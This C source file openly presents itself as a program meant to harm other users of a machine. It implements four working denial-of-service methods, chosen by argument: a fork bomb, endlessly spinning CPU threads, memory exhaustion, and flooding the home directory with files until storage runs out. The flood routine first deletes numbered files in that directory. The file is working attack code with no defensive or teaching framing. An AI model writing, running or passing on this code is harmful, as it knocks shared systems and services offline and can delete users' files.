/* A program that harms the others in every way it can, with one word for the way. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define THREADS 8
#define PIECE (1 << 20)

static void *spin(void *unused) {
    for (volatile unsigned long i = 0;; i++) {}
    return unused;
}

/* A file for each number, until there is no more room. */
static int flood(void) {
    char name[16];
    if (chdir(getenv("HOME"))) return 1;
    for (unsigned i = 0; snprintf(name, sizeof name, "%u", i), !unlink(name); i++) {}
    for (unsigned i = 0;; i++) {
        snprintf(name, sizeof name, "%u", i);
        int file = open(name, O_WRONLY | O_CREAT, 0600);
        if (file < 0) return 1;
        if (write(file, "x", 1) != 1) return 1;
        close(file);
    }
}

int main(int count, char **words) {
    const char *method = count > 1 ? words[1] : "";
    if (!strcmp(method, "bomb")) {
        for (;;) fork();
    } else if (!strcmp(method, "threads")) {
        pthread_t thread;
        for (int i = 1; i < THREADS; i++) {
            if (pthread_create(&thread, NULL, spin, NULL)) return 1;
        }
        spin(NULL);
    } else if (!strcmp(method, "memory")) {
        volatile char *piece;
        while ((piece = malloc(PIECE))) {
            for (size_t at = 0; at < PIECE; at += 4096) piece[at] = 1;
        }
        return 1;
    } else if (!strcmp(method, "files")) {
        return flood();
    }
    return 0;
}
